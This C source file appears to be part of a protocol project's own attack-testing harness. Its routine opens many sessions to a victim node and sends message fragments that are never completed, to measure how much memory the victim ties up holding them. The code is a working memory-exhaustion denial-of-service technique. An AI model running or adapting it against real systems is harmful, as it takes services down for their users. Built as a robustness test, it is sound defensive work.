/* SPDX-License-Identifier: Apache-2.0 */
#include "../../proto/session/record.h"
#include "command.h"
#include "contact.h"
#include <stdlib.h>
#include <string.h>

/*
 * A member who opens many sessions and begins messages that it never ends, slowly enough not to
 * be forgotten: how much memory does it get hold of? Each session sends all of two messages but
 * their last bytes.
 */

enum {
	PIECE = 1400,
	MESSAGES = 2,
	BURST = 16, /* pieces of one session in a row: the victim's ring is not the matter here */
};

static bool open_session(
	struct attack *attack, struct contact *contact, const uint8_t *instance, unsigned n)
{
	*contact = (struct contact){.wire = &attack->wire, .thief = &attack->thief};
	memcpy(contact->instance, instance, MVMP_ID_LEN);
	memcpy(contact->dst, attack->victim, MVMP_MAC_LEN);
	attack_source(attack, contact->src, n);
	return contact_open(contact, 1000) == 0;
}

static void send_piece(struct contact *contact, unsigned n, uint32_t total)
{
	uint32_t pieces = (total - 1) / PIECE;
	uint8_t plain[MVMP_FRAGMENT_OVERHEAD + PIECE];
	struct mvmp_writer w = mvmp_writer(plain, sizeof plain);
	static const uint8_t bytes[PIECE] = {1};
	struct mvmp_fragment piece = {.sequence = n,
		.message = n / pieces,
		.total = total,
		.offset = n % pieces * PIECE,
		.bytes = bytes,
		.len = PIECE};

	mvmp_put_fragment(&w, &piece);
	contact_send(contact, MVMP_CONTROL, plain, w.used);
}

static void send_pieces(
	struct attack *attack, struct contact *contact, unsigned sessions, uint32_t total)
{
	uint32_t pieces = MESSAGES * ((total - 1) / PIECE);

	for (uint32_t n = 0; n < pieces; n += BURST) {
		for (unsigned i = 0; i < sessions; i++) {
			for (uint32_t k = n; k < n + BURST && k < pieces; k++)
				send_piece(&contact[i], k, total);
		}
		wire_flush(&attack->wire);
	}
}

int attack_hoard(struct attack *attack)
{
	unsigned wanted = attack->argc > 0 ? (unsigned)atoi(attack->argv[0]) : 1, sessions = 0;
	uint32_t total = attack->argc > 1 ? (uint32_t)atoi(attack->argv[1]) : MVMP_REQUEST_MAX;
	struct contact *contact = calloc(wanted, sizeof *contact);
	uint8_t instance[MVMP_ID_LEN];

	if (!contact)
		return 1;
	attack_learn_instance(attack, instance);
	for (unsigned i = 0; i < wanted; i++) {
		if (open_session(attack, &contact[sessions], instance, i))
			sessions++;
	}
	printf("sessions %u\n", sessions);
	attack->wire.started = attack->wire.count = 0;
	send_pieces(attack, contact, sessions, total);
	puts("begin");
	wire_listen(&attack->wire, attack->seconds * 1000);
	attack_report(attack);
	for (unsigned i = 0; i < sessions; i++)
		contact_drop(&contact[i]);
	free(contact);
	return 0;
}
